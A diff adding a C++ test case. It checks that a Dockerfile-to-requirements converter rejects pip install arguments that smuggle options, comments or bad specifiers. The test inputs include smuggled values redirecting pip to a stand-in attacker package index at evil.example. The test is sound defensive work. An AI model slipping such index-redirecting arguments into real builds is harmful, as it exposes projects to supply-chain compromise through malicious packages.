@@ -519,6 +519,52 @@ TEST_CASE("templates: pip lines of every shape: -r followed back through its COP
   CHECK(both.commands[0].find("lock requirements-deps.txt -o requirements-deps.lock") != std::string::npos);
 }
 
+TEST_CASE("init --from-dockerfile: each pip install argument is one requirement, never smuggled options") {
+  // A quoted argument becomes one line of the requirements file: an option, a comment or
+  // a second line inside it would change what lock reads; such a RUN is not mapped, and
+  // no requirements file is written for it.
+  const std::string df = "FROM python:3.10\n"
+                         "RUN pip install \"numpy --index-url http://evil.example/simple\"\n"
+                         "RUN pip install \"scipy\t--extra-index-url=http://evil\"\n"
+                         "RUN pip install \"requests # pinned elsewhere\"\n"
+                         "RUN pip install \"opencv>=>4\"\n"
+                         "RUN pip install \"shapely>=2\" \"fonttools[ufo]>=4.24; python_version > '3.8'\"\n";
+  auto plain = templates::spec_from_dockerfile(df, "Dockerfile");
+  REQUIRE(plain.unmapped.size() == 3); // without a PEP 508 check, opencv>=>4 is left to lock
+  CHECK(plain.unmapped[0].line == 2);
+  CHECK(plain.unmapped[0].reason.find("pip reads the part from `-` on as options") != std::string::npos);
+  CHECK(plain.unmapped[1].line == 3);
+  CHECK(plain.unmapped[1].reason.find("`scipy?--extra-index-url=http://evil` holds a control character") !=
+        std::string::npos);
+  CHECK(plain.unmapped[2].reason.find("as a comment") != std::string::npos);
+  templates::FromDockerfileOptions o;
+  std::vector<std::string> asked;
+  o.requirement_error = [&](const std::string& a) -> std::optional<std::string> {
+    asked.push_back(a);
+    return a.find(">=>") != std::string::npos ? std::optional<std::string>("bad specifier at column 7") : std::nullopt;
+  };
+  auto checked = templates::spec_from_dockerfile(df, "Dockerfile", o);
+  REQUIRE(checked.unmapped.size() == 4);
+  CHECK(checked.unmapped[3].line == 5);
+  CHECK(checked.unmapped[3].reason.find("`opencv>=>4` is not a requirement (PEP 508): bad specifier at column 7") !=
+        std::string::npos);
+  // The checker sees only arguments the lexical rules let through.
+  CHECK(asked == std::vector<std::string>{"opencv>=>4", "shapely>=2", "fonttools[ufo]>=4.24; python_version > '3.8'"});
+  // Each mapped RUN has its own requirements file: without the check, opencv>=>4's
+  // (lock refuses it, naming the line); with it, only the last RUN's.
+  REQUIRE(plain.files.size() == 2);
+  CHECK(plain.files[0].second.find("\nopencv>=>4\n") != std::string::npos);
+  REQUIRE(checked.files.size() == 1);
+  for (const auto& r : {plain, checked}) {
+    for (const auto& [path, text] : r.files) {
+      CHECK(text.find("evil") == std::string::npos);
+      CHECK(text.find("requests") == std::string::npos);
+    }
+    CHECK(r.files.back().second.find("\nshapely>=2\nfonttools[ufo]>=4.24; python_version > '3.8'\n") !=
+          std::string::npos);
+  }
+}
+
 TEST_CASE("templates: multi-stage Dockerfiles map the last stage and list every earlier instruction") {
   std::string df = "FROM golang AS build\nRUN go build -o /x\nCOPY a /a\nFROM scratch\nCOPY --from=build /x /x\n"
                    "COPY b /b\n";
